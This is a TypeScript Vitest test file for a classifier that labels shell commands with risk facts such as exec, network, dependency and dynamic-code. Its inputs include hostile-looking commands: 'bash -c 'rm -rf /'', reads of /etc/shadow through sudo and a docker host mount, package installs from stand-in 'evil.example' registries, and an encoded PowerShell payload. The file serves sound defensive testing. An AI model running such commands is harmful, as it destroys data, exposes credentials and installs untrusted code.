import { describe, expect, test } from "vitest";
import { readCommand } from "../../../src/facts/commands/read-command.ts";
import { HARMLESS } from "../../../src/facts/commands/programs/harmless.ts";
import { RISK_OF_CLASS } from "../../../src/facts/commands/programs/program-class.ts";
import { RISKY } from "../../../src/facts/commands/programs/risky.ts";
import { SUBCOMMANDS } from "../../../src/facts/commands/programs/subcommands.ts";
import { PROGRAMS, PYTHON_MODULE_ENTRIES, SUBCOMMAND_ENTRIES } from "../../../src/facts/commands/programs/table.ts";
import { NO_CONTEXT } from "../../../src/facts/risk/context.ts";
import { readLine, splitLine } from "../../support/commands.ts";

const expected = (line: string, list: string): readonly string[] =>
  list.split(" | ").map((one) => one.replace(/=$/u, line));

describe("packages", () => {
  test.for([
    ["pip install requests==2", "!exec = | !dependency requests@2"],
    ["pip3 install -U 'numpy>=1.20' pandas", "!exec = | !dependency numpy@>=1.20 | !dependency pandas"],
    ["pip install 'httpx[http2]==0.27.0'", "!exec pip install httpx[http2]==0.27.0 | !dependency httpx@0.27.0"],
    ["pip install -r requirements.txt", "!exec = | fs-read requirements.txt | !dependency -r requirements.txt"],
    ["pip install -r ./dev.txt -c pins.txt", "!exec = | fs-read dev.txt | !dependency -r dev.txt | fs-read pins.txt"],
    ["pip install -r ?", "!exec pip install -r * | !fs-read * | !dependency *"],
    [
      "pip install --index-url https://pypi.evil.example/simple x",
      "!exec = | !network pypi.evil.example | !dependency x",
    ],
    [
      "pip install git+https://github.com/a/b.git",
      "!exec = | !network github.com | !dependency git+https://github.com/a/b.git",
    ],
    ["pip install -e .", "!exec = | fs-read ."],
    ["pip install ./dist/x.whl", "!exec = | fs-read dist/x.whl"],
    ["pip list", "exec ="],
    ["pip install ?", "!exec pip install * | !dependency *"],
    ["python3 -m pip install x", "!exec = | !dependency x"],
    ["uv pip install x", "!exec = | !dependency x"],
    ["uv add x==1", "!exec = | !dependency x@1"],
    ["uvx ruff check .", "!exec = | !dependency ruff"],
    ["uvx --from black==24.1 black .", "!exec = | !dependency black@24.1"],
    ["pipx run cowsay hi", "!exec = | !dependency cowsay"],
    ["npm install", "!exec ="],
    ["npm i -g typescript@5", "!exec = | !dependency typescript@5"],
    ["npm install @scope/x", "!exec = | !dependency @scope/x"],
    ["npm install --registry https://r.evil.example x", "!exec = | !network r.evil.example | !dependency x"],
    ["npm test", "exec ="],
    ["npm run build", "exec ="],
    ["npm publish", "!exec ="],
    ["npx -y left-pad@1 --help me", "!exec = | !dependency left-pad@1"],
    ["npx --package x y", "!exec = | !dependency x"],
    ["pnpm dlx x", "!exec = | !dependency x"],
    ["yarn add x", "!exec = | !dependency x"],
    ["bunx x", "!exec = | !dependency x"],
    ["cargo install ripgrep", "!exec = | !dependency ripgrep"],
    ["cargo build --release", "exec ="],
    ["go install example.com/x@latest", "!exec = | !dependency example.com/x@latest"],
    ["go test ./...", "exec ="],
    ["gem install rails", "!exec = | !dependency rails"],
    ["brew install jq", "!exec = | !dependency jq"],
    ["apt-get install -y curl=7.1", "!exec = | !dependency curl@7.1"],
    ["apk add --no-cache bash", "!exec = | !dependency bash"],
    ["conda install -c conda-forge numpy=1.26", "!exec = | !network conda-forge | !dependency numpy@1.26"],
    ["winget install --id Git.Git", "!exec = | !dependency Git.Git"],
    ["dotnet add package Newtonsoft.Json", "!exec = | !dependency Newtonsoft.Json"],
  ] as const)("%s", ([line, list]) => {
    expect(readLine(line)).toEqual(expected(line, list));
  });
});

describe("what runs code or another command", () => {
  test.for([
    ["python3 -c 'print(1)'", "!exec python3 -c * | !dynamic-code python"],
    ["python3.12 -c 'print(1)'", "!exec python3.12 -c * | !dynamic-code python"],
    ["node -e 'f()'", "!exec node -e * | !dynamic-code javascript"],
    ["node --eval='f()'", "!exec node --eval=* | !dynamic-code javascript"],
    ["bash -c 'rm -rf /'", "!exec bash -c * | !dynamic-code shell"],
    ["sh -xec ?", "!exec sh -xec * | !dynamic-code shell"],
    ["perl -e 'print 1'", "!exec = | !dynamic-code perl"],
    ["ruby -e 'puts 1'", "!exec = | !dynamic-code ruby"],
    ["php -r 'echo 1;'", "!exec = | !dynamic-code php"],
    ["osascript -e 'beep'", "!exec osascript -e beep | !dynamic-code osascript"],
    ["powershell -enc SQBFAFgA", "!exec = | !dynamic-code powershell"],
    ["cmd /c dir", "!exec = | !dynamic-code batch"],
    ["psql -c 'select 1'", "!exec ="],
    ["python3 scripts/fill.py", "exec ="],
    ["python3 scripts/fill.py ?", "exec python3 scripts/fill.py *"],
    ["python3 ?", "!exec python3 *"],
    ["python3 /tmp/x.py", "!exec ="],
    ["python3 ../other/x.py", "!exec ="],
    ["python3", "!exec ="],
    ["python3 --version", "exec ="],
    ["python3 -m pytest -q", "exec ="],
    ["python3 -m json.tool a.json", "exec ="],
    ["python3 -m http.server 8000", "!exec ="],
    ["python3 -m evil", "!exec ="],
    ["node scripts/a.mjs --x", "exec ="],
    ["bash scripts/a.sh", "exec ="],
    ["bash scripts/a", "exec ="],
    ["bash ./words.txt", "!exec ="],
    ["python3 words.dat", "!exec ="],
    ["bash scripts/a.py", "!exec ="],
    ["node scripts/a.ts", "exec ="],
    ["perl scripts/a.pl", "exec ="],
    ["./run.sh --all", "exec ="],
    ["scripts/run.sh ?", "exec scripts/run.sh *"],
    ["/tmp/run.sh", "!exec ="],
    ["~/bin/x", "!exec ="],
    ["../run.sh", "!exec ="],
    [".venv/bin/python a.py", "exec python a.py"],
    ["/tmp/git status", "!exec ="],
    ["frobnicate --all", "!exec ="],
    ["? --all", "!exec *"],
    ["sudo apt install x", "!exec = | !exec apt install x | !dependency x"],
    ["sudo -u root env A=1 timeout 5 cat /etc/shadow", "!exec = | env A | exec cat /etc/shadow | !fs-read /etc/shadow"],
    ["nohup ./run.sh", "exec ./run.sh"],
    ["time make test", "exec make test"],
    ["nice -n 5 pytest", "exec pytest"],
    ["xargs -n 1 rm", "!exec rm * | !fs-write *"],
    ["find . -type f -exec grep -l x {} +", "exec = | fs-read in . | exec grep -l x ./*"],
    ["find a b -exec grep -l x {} +", "exec = | fs-read in a | fs-read in b | exec grep -l x * | !fs-read *"],
    ["pnpm exec parcel build index.html", "exec parcel build index.html"],
    ["busybox wget http://a.com", "!exec wget http://a.com | !network a.com"],
    ["command -v git", "!exec ="],
    [
      "docker run --rm -v /:/host alpine cat /host/etc/shadow",
      "!exec = | exec cat /host/etc/shadow | fs-read /host/etc/shadow",
    ],
    ["docker exec -it web sh", "!exec = | !exec sh"],
    ["docker ps", "exec ="],
    ["kubectl exec pod -- env", "!exec = | !exec env | !env *"],
    ["uv run pytest -q", "exec pytest -q"],
    ["poetry run python a.py", "exec python a.py"],
    ["watch -n 5 'git status'", "!exec ="],
    ["timeout 5 ?", "!exec *"],
    ["eval ?", "!exec eval * | !dynamic-code shell"],
    ["source lib.sh", "exec = | fs-read lib.sh"],
    ["source ~/.profile", "!exec = | fs-read ~/.profile"],
    ["vim a.txt", "!exec ="],
    ["tsc -p .", "exec ="],
    ["prettier --write 'src/**/*.ts'", "exec ="],
    ["make -C build", "exec ="],
    ["kill -9 123", "!exec ="],
    ["pbpaste", "!exec ="],
  ] as const)("%s", ([line, list]) => {
    expect(readLine(line)).toEqual(expected(line, list));
  });

  test.for([
    ["python3 -c 'a b'", [{ language: "python", text: ["a b"] }]],
    ["perl -wE 'say 1'", [{ language: "perl", text: ["say 1"] }]],
    ["ssh h.example.com ls -l", [{ language: "shell", text: ["ls -l"] }]],
    ["sudo bash -c ?", [{ language: "shell", text: [{ gap: "computed" }] }]],
    ["su me -c 'id'", [{ language: "shell", text: ["id"] }]],
    ["watch 'df -h'", [{ language: "shell", text: ["df -h"] }]],
    ["git status", []],
  ] as const)("%s hands its code back", ([line, code]) => {
    const read = readCommand(splitLine(line), NO_CONTEXT).code;
    expect(read.map(({ language, text }) => ({ language, text }))).toEqual(code);
  });
});

describe("the table of programs", () => {
  test("has at least 250 programs, each with a reason", () => {
    expect(PROGRAMS.size).toBeGreaterThanOrEqual(250);
    const below = Object.keys(SUBCOMMANDS).map((program) => SUBCOMMAND_ENTRIES.get(program) ?? []);
    expect(below).not.toContainEqual([]);
    const entries = [PROGRAMS, PYTHON_MODULE_ENTRIES, ...below].flatMap((table) => [...table]);
    expect(entries.filter(([name, { reason }]) => name === "" || reason.length < 10)).toEqual([]);
  });

  test("has harmless programs in one file and risky ones in the other", () => {
    expect(HARMLESS.filter(([group]) => RISK_OF_CLASS[group] !== "harmless")).toEqual([]);
    expect(RISKY.filter(([group]) => RISK_OF_CLASS[group] !== "risky")).toEqual([]);
  });

  test("has sub-commands of known programs only", () => {
    expect(Object.keys(SUBCOMMANDS).filter((name) => !PROGRAMS.has(name))).toEqual([]);
    expect(SUBCOMMAND_ENTRIES.get("toString")).toBeUndefined();
  });
});
